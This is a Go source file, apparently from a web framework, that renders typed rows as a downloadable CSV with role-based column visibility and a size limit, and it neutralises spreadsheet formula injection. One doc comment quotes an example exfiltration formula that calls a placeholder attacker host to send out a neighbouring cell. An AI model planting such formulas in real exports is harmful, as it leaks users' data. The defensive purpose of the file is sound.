package fastness

import (
	"bytes"
	"cmp"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"reflect"
	"slices"
	"strings"

	"github.com/fastness/fastness/auth"
	"github.com/fastness/fastness/internal/csvcell"
	"github.com/fastness/fastness/internal/filename"
	"github.com/fastness/fastness/openapi"
	"github.com/fastness/fastness/schema"
)

// csvType is the media type of a [CSV] (RFC 7111).
const csvType = "text/csv"

// maxCSV is the most bytes of a CSV, and of the JSON that it is made of.
const maxCSV = 64 << 20

// CSV is an answer for a spreadsheet: a row for each of Rows, in RFC 4180's format,
// under a row with the names that the members of T have in JSON. T is a struct. A
// member that is not for the caller to see has no column. The browser saves it as a
// file.
//
//	func exportItems(ctx context.Context, in exportInput) (fastness.CSV[ItemView], error) {
//		items, err := in.Items.Of(ctx, in.Seller)
//		return fastness.CSV[ItemView]{Name: "items.csv", Rows: items}, err
//	}
//
// A spreadsheet runs a cell that begins like a formula, whoever wrote it and whether
// it is quoted or not (CWE-1236): an item that is called
// =HYPERLINK("https://evil.example/?"&A1) sends out the cell next to it. So a text
// that begins with = + - @, one of their full-width forms, a tab, a line end or a NUL,
// behind whatever white space, quotes and separators, gets an apostrophe in front, by
// which spreadsheets know a text. The same is done inside of a text behind each
// semicolon, tab and line end, where a spreadsheet that reads another separator begins
// a cell. Numbers of T are numbers: -5 stays as it is, the text "-5" does not.
//
// The apostrophe stays in the text: a program that reads the file sees it. Programs
// are better served with JSON.
//
// Members that are lists or objects are cells with their JSON; what is null or left
// out is an empty cell. All of it is made in memory, and more than 64 MiB is an
// error: bound the number of Rows.
type CSV[T any] struct {
	Rows []T
	// Name is what the browser calls the file: its last element, without what could hide
	// what the file is, and with ".csv" at the end. The default is "export.csv".
	Name string
}

func (c *CSV[T]) outline() outline {
	return outline{body: reflect.TypeFor[[]T](), content: csvType, table: true}
}

func (c *CSV[T]) fill(a *answer) error {
	a.rows = reflect.ValueOf(&c.Rows).Elem()
	a.header = http.Header{"Content-Disposition": {filename.Attachment(filename.WithExtension(cmp.Or(c.Name, "export"), ".csv"))}}
	return nil
}

// table is what the rows of a CSV have in common.
type table struct{ columns []column }

type column struct {
	name string
	// visible says who sees the column; without it everybody does.
	visible func(*auth.User) bool
}

// newTable returns the table of a list of structs.
func newTable(types *schema.Types, list reflect.Type) (*table, error) {
	row := list.Elem()
	plan, err := types.Plan(row, "")
	if err != nil {
		return nil, err
	}
	d := schema.NewDescriber()
	s := d.Describe(plan, schema.Output)
	components := d.Components()
	if name, found := strings.CutPrefix(s.Ref, "#/components/schemas/"); found {
		s, _ = components.Get(name)
	}
	if row.Kind() != reflect.Struct || s == nil || s.Properties.IsZero() {
		return nil, fmt.Errorf("a CSV of %s has no columns, want a struct with members", row)
	}
	t := &table{}
	for name, member := range s.Properties.All() {
		t.columns = append(t.columns, column{name, seenBy(member)})
	}
	return t, nil
}

// seenBy returns who sees a member, of what the plan publishes of it.
func seenBy(member *openapi.Schema) func(*auth.User) bool {
	published, restricted := member.Extensions["x-visible-to"]
	if !restricted {
		return nil
	}
	roles, _ := published.([]string)
	return func(u *auth.User) bool { return u != nil && slices.ContainsFunc(roles, u.HasRole) }
}

// render makes the CSV of the rows in a, as the caller may see them: their JSON is
// what every answer of this type is made of, and only what is in it becomes a cell.
func (t *table) render(x *exchange, plan *schema.Plan, a *answer) (err error) {
	x.encoded, err = plan.AppendFor(x.encoded[:0], a.rows, x.ctx.user)
	if err != nil {
		return err
	}
	place := make(map[string]int, len(t.columns))
	var names []string
	for _, c := range t.columns {
		if c.visible == nil || c.visible(x.ctx.user) {
			place[c.name] = len(names)
			names = append(names, c.name)
		}
	}
	out := make([]byte, 0, len(x.encoded))
	for i, name := range names {
		out = csvcell.Append(separate(out, i), name)
	}
	out = append(out, "\r\n"...)
	if out, err = appendRows(out, x.encoded, place, maxCSV); err != nil {
		return err
	}
	a.raw, a.content = out, csvType+"; charset=utf-8"
	return nil
}

var errCSV = errors.New("a row of the CSV is not as its type is declared")

// appendRows appends a record for each object in a JSON array, up to limit bytes.
func appendRows(out, array []byte, place map[string]int, limit int) ([]byte, error) {
	if len(array) > limit {
		return nil, oversizedCSV(limit)
	}
	d := json.NewDecoder(bytes.NewReader(array))
	if start, err := d.Token(); err != nil || start == nil {
		return out, err
	}
	cells := make([]json.RawMessage, len(place))
	for d.More() {
		clear(cells)
		if start, err := d.Token(); err != nil || start != json.Delim('{') {
			return nil, errors.Join(errCSV, err)
		}
		for d.More() {
			name, err := d.Token()
			if err != nil {
				return nil, err
			}
			text, _ := name.(string)
			i, known := place[text]
			if !known { // To be safe: no cell without its column.
				return nil, errCSV
			}
			if err := d.Decode(&cells[i]); err != nil {
				return nil, err
			}
		}
		if _, err := d.Token(); err != nil {
			return nil, err
		}
		for i, value := range cells {
			if len(cells) == 1 && (value == nil || value[0] == 'n') {
				value = json.RawMessage(`""`) // Many readers drop an empty line.
			}
			var err error
			if out, err = appendCell(separate(out, i), value); err != nil {
				return nil, err
			}
		}
		if out = append(out, "\r\n"...); len(out) > limit {
			return nil, oversizedCSV(limit)
		}
	}
	return out, nil
}

func oversizedCSV(limit int) error {
	return fmt.Errorf("a CSV is larger than %d bytes, want fewer rows", limit)
}

func separate(out []byte, i int) []byte {
	if i > 0 {
		return append(out, ',')
	}
	return out
}

// appendCell appends one JSON value as a cell.
func appendCell(out []byte, value json.RawMessage) ([]byte, error) {
	switch {
	case len(value) == 0 || string(value) == "null":
		return out, nil
	case value[0] == '"':
		var text string
		if err := json.Unmarshal(value, &text); err != nil {
			return nil, err
		}
		return csvcell.Append(out, text), nil
	case value[0] == '{' || value[0] == '[':
		return csvcell.Append(out, string(value)), nil
	}
	return append(out, value...), nil // A number, true or false.
}
